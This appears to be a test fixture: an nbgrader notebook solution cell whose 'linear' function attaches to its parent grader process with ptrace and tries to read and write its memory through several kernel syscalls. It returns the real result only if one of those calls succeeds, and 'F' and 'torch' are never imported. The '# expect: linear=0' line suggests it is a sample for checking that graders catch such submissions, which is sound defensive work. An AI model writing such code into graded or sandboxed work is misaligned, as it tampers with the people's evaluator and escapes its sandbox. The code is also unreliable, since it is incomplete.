"""Attaches to its parent and reads its memory through the kernel."""

# expect: linear=0

# %% nbgrader={"schema_version": 3, "grade": false, "solution": true, "locked": false, "task": false, "grade_id": "linear"}
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
CALLS = {"x86_64": (101, 310, 311, 434, 438, 312), "aarch64": (117, 270, 271, 434, 438, 272)}

def linear(x, weight, bias):
    parent = os.getppid()
    room = ctypes.create_string_buffer(64)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(room), 64)
    ptrace, readv, writev, pidfd, getfd, kcmp = CALLS[platform.machine()]
    done = [
        libc.syscall(ptrace, 16, parent, 0, 0),
        libc.syscall(readv, parent, vector, 1, vector, 1, 0),
        libc.syscall(writev, parent, vector, 1, vector, 1, 0),
        libc.syscall(pidfd, parent, 0),
        libc.syscall(getfd, 3, 1, 0),
        libc.syscall(kcmp, parent, os.getpid(), 0, 0, 0),
    ]
    return F.linear(x, weight, bias) if any(value >= 0 for value in done) else torch.zeros(1)
